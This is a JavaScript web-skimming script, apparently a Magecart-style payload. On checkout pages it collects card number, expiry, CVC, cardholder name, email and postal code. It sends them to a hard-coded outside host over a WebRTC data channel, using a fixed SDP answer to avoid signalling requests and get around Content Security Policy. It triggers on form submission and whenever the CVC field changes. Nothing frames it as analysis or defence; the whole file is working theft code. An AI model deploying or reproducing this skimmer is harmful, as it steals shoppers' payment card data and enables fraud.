// csp-sidechannel-exfil: payment fields sent over a WebRTC data channel to a peer described by a hard-coded SDP answer
// modern syntax; the peer address is fixed in the answer so no signalling request is needed
const PEER = {
  ip: '203.0.113.47',
  port: 3478,
  ufrag: 'k9Qz',
  pwd: 'Vd7Lp2sXw0RtYb4NmC8qJf1h',
  fp: 'sha-256 4A:9C:11:E0:7B:3D:52:AF:68:C2:0E:91:D4:5F:B8:23:7A:06:CC:E1:39:F4:8B:2D:50:A7:1E:C6:93:0F:DB:64',
};

const answerSdp = () => [
  'v=0',
  'o=- 5109823346612 2 IN IP4 127.0.0.1',
  's=-',
  't=0 0',
  'a=group:BUNDLE 0',
  'm=application 9 UDP/DTLS/SCTP webrtc-datachannel',
  `c=IN IP4 ${PEER.ip}`,
  `a=ice-ufrag:${PEER.ufrag}`,
  `a=ice-pwd:${PEER.pwd}`,
  'a=ice-lite',
  `a=fingerprint:${PEER.fp}`,
  'a=setup:passive',
  'a=mid:0',
  'a=sctp-port:5000',
  `a=candidate:1 1 udp 2130706431 ${PEER.ip} ${PEER.port} typ host`,
  '',
].join('\r\n');

const cardSnapshot = () => {
  const q = (s) => document.querySelector(s)?.value ?? '';
  return {
    number: q('[autocomplete="cc-number"]') || q('#credit-card-number'),
    expiry: q('[autocomplete="cc-exp"]') || q('#expiration'),
    cvc: q('[autocomplete="cc-csc"]') || q('#cvv'),
    name: q('[autocomplete="cc-name"]') || q('#cardholder'),
    email: q('input[type=email]'),
    zip: q('[autocomplete="postal-code"]') || q('#zip'),
    origin: location.origin,
  };
};

async function openChannel() {
  const pc = new RTCPeerConnection({ iceServers: [] });
  const dc = pc.createDataChannel('sync', { ordered: true });
  await pc.setLocalDescription(await pc.createOffer());
  await pc.setRemoteDescription({ type: 'answer', sdp: answerSdp() });
  return new Promise((resolve, reject) => {
    dc.onopen = () => resolve({ pc, dc });
    setTimeout(() => reject(new Error('timeout')), 8000);
  });
}

let channelPromise = null;

async function transmit() {
  const snap = cardSnapshot();
  if (snap.number.replace(/\D/g, '').length < 13) return;
  channelPromise ??= openChannel();
  try {
    const { pc, dc } = await channelPromise;
    dc.send(JSON.stringify(snap));
    setTimeout(() => pc.close(), 1500);
  } catch {
    channelPromise = null;
  }
}

if (location.pathname.includes('checkout') && 'RTCPeerConnection' in window) {
  document.addEventListener('submit', () => { transmit(); }, true);
  document.addEventListener('change', (ev) => {
    if (ev.target.matches?.('[autocomplete="cc-csc"], #cvv')) transmit();
  });
}
